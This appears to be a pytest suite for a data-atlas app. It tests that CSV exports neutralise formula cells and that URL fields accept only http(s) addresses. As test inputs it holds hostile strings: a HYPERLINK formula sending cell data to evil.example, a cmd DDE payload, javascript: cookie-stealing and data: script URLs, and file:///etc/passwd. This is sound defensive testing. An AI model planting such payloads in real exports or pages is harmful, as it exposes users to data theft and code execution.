"""Hostile exports: formula cells in spreadsheet CSVs are neutralised (OWASP), the zip warns, addresses are http(s)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import frames
import pytest
import streamlit.testing.v1.app_test as app_test_module
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from components import paths
from components.model.load import load_model
from components.queries import tables
from components.queries.links import is_web_address

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tleading tab", "\rleading return"]  # fmt: skip


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        *((formula, "'" + formula) for formula in FORMULAS),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        ("'already quoted", "'already quoted"),
        (3, 3),
        (None, None),
    ],
)
def test_formula_cells_get_an_apostrophe_and_nothing_else_changes(cell, expected) -> None:
    assert tables.neutralise_formula(cell) == expected


def test_spreadsheet_safe_csv_neutralises_every_formula_cell_and_keeps_the_rest() -> None:
    text = 'a,b\n"=1+1",plain\n"x, y","@me"\n'
    assert list(csv.reader(io.StringIO(tables.spreadsheet_safe_csv(text)))) == [
        ["a", "b"], ["'=1+1", "plain"], ["x, y", "'@me"],
    ]  # fmt: skip


def hostile_folder(tmp_path: Path) -> Path:
    """The real data plus one event whose text cells start with formulas."""
    folder = frames.copy_data(tmp_path / "data")
    frames.add_valid_rows(folder)
    frames.write_rows(
        folder, "events/zz_test.csv",
        [{**frames.VALID_EVENT, "summary": FORMULAS[0], "date_note": FORMULAS[1], "partners": FORMULAS[3]}],
    )  # fmt: skip
    return folder


def test_events_csv_has_no_formula_cell(tmp_path: Path) -> None:
    model = load_model(hostile_folder(tmp_path))
    rows = list(csv.reader(io.StringIO(tables.events_csv(model, model.events).decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(tables.FORMULA_STARTS)]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[3] in cells


def test_the_zip_keeps_the_raw_files_unchanged_and_warns_about_spreadsheets(tmp_path: Path) -> None:
    folder = hostile_folder(tmp_path)
    before = frames.file_hashes(folder)
    with zipfile.ZipFile(io.BytesIO(tables.dataset_zip_bytes(folder, "cite me"))) as archive:
        raw = archive.read("xiaomi-market-atlas/events/zz_test.csv")
        note = archive.read("xiaomi-market-atlas/README-SPREADSHEETS.txt").decode("utf-8")
    assert raw == (folder / "events/zz_test.csv").read_bytes()
    assert "formula" in note and "=" in note and "pandas.read_csv" in note
    assert frames.file_hashes(folder) == before


@pytest.mark.parametrize(
    ("address", "ok"),
    [
        ("https://example.com/a?b=c#d", True),
        ("http://example.com", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("file:///etc/passwd", False),
        ("https://", False),
        ("https:// example.com", False),
        ("https://exa mple.com", False),
        ("https://example.com/\u2028x", False),
        ("//example.com", False),
        ("ftp://example.com", False),
        ("", False),
    ],
)
def test_only_http_and_https_addresses_are_web_addresses(address: str, ok: bool) -> None:
    assert is_web_address(address) is ok


ARTICLE = "Xiaomi ha aperto un negozio in Spagna il 7 novembre 2017."


@pytest.fixture
def media(monkeypatch) -> list[MemoryMediaFileStorage]:
    """The media storages AppTest creates (one per run), to read what a download button serves."""
    made: list[MemoryMediaFileStorage] = []

    def storage(prefix: str) -> MemoryMediaFileStorage:
        made.append(MemoryMediaFileStorage(prefix))
        return made[-1]

    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", storage)
    return made


def add_page(url: str, outlet: str = "Outlet") -> AppTest:
    app = AppTest.from_file(str(paths.ROOT / "components/pages/add/page.py"), default_timeout=120)
    app.run()
    app.text_area(key="ingest_text").input(ARTICLE).run()
    app.text_input(key="ingest_outlet").input(outlet).run()
    app.text_input(key="ingest_url").input(url).run()
    assert not app.exception, app.exception
    return app


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:text/html,x", "www.example.com"])
def test_the_add_page_refuses_an_address_that_is_not_http(url: str) -> None:
    app = add_page(url)
    assert any("must start with http:// or https://" in error.value for error in app.error)
    assert not app.download_button


def test_the_add_page_downloads_have_no_formula_cell(media) -> None:
    app = add_page("https://example.com/article", outlet='=HYPERLINK("http://evil.example","x")')
    assert [button.label for button in app.download_button] == ["Download events CSV", "Download source CSV"]
    for button in app.download_button:
        name = button.proto.url.rsplit("/", 1)[1]
        data = next(s.get_file(name) for s in reversed(media) if name.split(".")[0] in s._files_by_id).content
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
        assert not [cell for cell in cells if cell.startswith(tables.FORMULA_STARTS)], cells
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
